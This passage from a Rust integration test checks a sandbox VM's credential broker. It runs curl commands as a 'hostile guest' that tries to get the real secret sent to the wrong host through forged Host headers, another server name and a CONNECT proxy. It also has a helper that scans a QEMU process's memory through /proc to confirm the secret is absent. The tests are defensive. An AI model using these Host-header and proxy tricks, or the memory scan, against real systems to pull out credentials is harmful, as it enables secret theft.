    assert_eq!(twice.matches(GOT_THE_VALUE).count(), 2, "{twice}");
    // In another header: sent as it was.
    let seen = sh(
        &s.vm,
        &format!("curl -sS -m 20 -H 'X-Token: {ph}' https://web.test/echo"),
    )
    .await;
    assert!(
        seen.contains(&ph) && !seen.contains("<the secret>"),
        "{seen}"
    );
    // To another host (same server, another name): the placeholder.
    let seen = sh(
        &s.vm,
        &format!("curl -sS -m 20 -k -H 'Authorization: Bearer {ph}' https://other.test/echo"),
    )
    .await;
    assert!(
        seen.contains(&ph) && !seen.contains("<the secret>"),
        "{seen}"
    );
    // A hostile guest: a Host other than its server name gets 421, nothing
    // sent; a forged server name under the secret's Host is not brokered;
    // a CONNECT through the secret's host gets nothing either.
    let misdirected = sh(
        &s.vm,
        &format!(
            "curl -sS -m 20 -o /dev/null -w '%{{http_code}}' -H 'Host: other.test' \
             -H 'Authorization: Bearer {ph}' https://web.test/echo"
        ),
    )
    .await;
    assert_eq!(misdirected, "421");
    let seen = sh(
        &s.vm,
        &format!(
            "curl -sS -m 20 -k -H 'Host: web.test' -H 'Authorization: Bearer {ph}' \
             https://other.test/echo"
        ),
    )
    .await;
    assert!(
        seen.contains(&ph) && !seen.contains("<the secret>"),
        "{seen}"
    );
    let connect = run(
        &s.vm,
        req(&format!(
            "curl -sS -m 20 -p -x http://web.test:80 -H 'Authorization: Bearer {ph}' \
             https://web.test/echo"
        )),
    )
    .await;
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&connect.stdout),
        String::from_utf8_lossy(&connect.stderr)
    );
    assert!(
        !all.contains("<the secret>") && !all.contains(&value),
        "{all}"
    );
    // A secret's host whose server cannot prove it (its certificate is
    // web.test's): reset before the guest's handshake, nothing sent.
    let before = s.manager.egress_refused(&id);
    let got = code(format!(
        "curl -sS -m 20 -H 'Authorization: Bearer {PLACEHOLDER}8' https://bad.test/echo"
    ))
    .await;
    assert!(
        matches!(got, Some(35) | Some(56) | Some(52)),
        "curl exited {got:?}"
    );
    assert_eq!(s.manager.egress_refused(&id), before + 1);

    // A header rule (E2B's network rules): its header set on the host's
    // requests, the guest's own of that name replaced; no placeholder in
    // the guest at all. Another host's requests keep what the guest sent.
    let with_rule = Broker {
        headers: vec![HeaderRule {
            hosts: vec!["web.test".into()],
            header: "X-Api-Key".into(),
            value: Sensitive::new(value.clone()),
            secrets: vec!["my-key".into()],
        }],
        ..broker.clone()
    };
    s.manager
        .set_egress(
            &id,
            &s.vm.agent,
            Egress::open().with_broker(with_rule).unwrap(),
        )
        .await
        .unwrap();
    let seen = sh(
        &s.vm,
        "curl -sS -m 20 -H 'X-Api-Key: mine' https://web.test/echo",
    )
    .await;
    assert!(seen.contains("X-Api-Key: <the secret>"), "{seen}");
    assert!(!seen.contains("mine"), "{seen}");
    let seen = sh(
        &s.vm,
        "curl -sS -m 20 -k -H 'X-Api-Key: mine' https://other.test/echo",
    )
    .await;
    assert!(seen.contains("X-Api-Key: mine"), "{seen}");

    // Nowhere in the VM: its QEMU's memory (the guest's RAM with it; a
    // file in the guest's /dev/shm proves the scan sees guest memory), its
    // disk, its record.
    sh(
        &s.vm,
        "printf 'sandpit-marker-%s' 51f0c2 > /dev/shm/marker && sync",
    )
    .await;
    let record = s.manager.record(&id).unwrap();
    let found = process_memory_holds(
        record.qemu_pid,
        &[b"sandpit-marker-51f0c2", value.as_bytes()],
    );
    assert!(
        found[0],
        "the scan of QEMU's memory does not see the guest's"
    );
    assert!(!found[1], "the value is in the VM's memory");
    let dir = s.manager.paths(&id).dir;
    for entry in std::fs::read_dir(&dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_file() {
            let bytes = std::fs::read(&path).unwrap_or_default();
            assert!(
                !contains(&bytes, value.as_bytes()),
                "the value is in {}",
                path.display()
            );
        }
    }
    s.manager
        .set_egress(&id, &s.vm.agent, Egress::open())
        .await
        .unwrap();
}

/// Which of `needles` some readable mapping of process `pid` holds, read
/// through /proc (as root) a chunk at a time.
fn process_memory_holds(pid: u32, needles: &[&[u8]]) -> Vec<bool> {
    use std::io::{Seek, SeekFrom};
    const CHUNK: u64 = 64 << 20;
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
    let mut mem = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
    let finders: Vec<_> = needles.iter().map(memchr::memmem::Finder::new).collect();
    let longest = needles.iter().map(|n| n.len()).max().unwrap_or(0) as u64;
    let mut found = vec![false; needles.len()];
    for line in maps.lines() {
        let mut fields = line.split_whitespace();
        let (Some(range), Some(perms)) = (fields.next(), fields.next()) else {
            continue;
        };
        if !perms.starts_with('r') || line.ends_with("[vvar]") || line.ends_with("[vsyscall]") {
            continue;
        }
        let (start, end) = range.split_once('-').unwrap();
        let (start, end) = (
            u64::from_str_radix(start, 16).unwrap(),
            u64::from_str_radix(end, 16).unwrap(),
        );
        let mut at = start;
        while at < end {
            // Chunks overlap by a needle's length, so none is cut in two.
            let len = CHUNK.min(end - at);
            let mut chunk = vec![0u8; len as usize];
            if mem.seek(SeekFrom::Start(at)).is_err() || mem.read_exact(&mut chunk).is_err() {
                break;
            }
            for (f, hit) in finders.iter().zip(found.iter_mut()) {
                *hit |= f.find(&chunk).is_some();
            }
            if at + len >= end {
                break;
            }
            at += len - longest.min(len);
        }
    }
    found
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(haystack, needle).is_some()
}
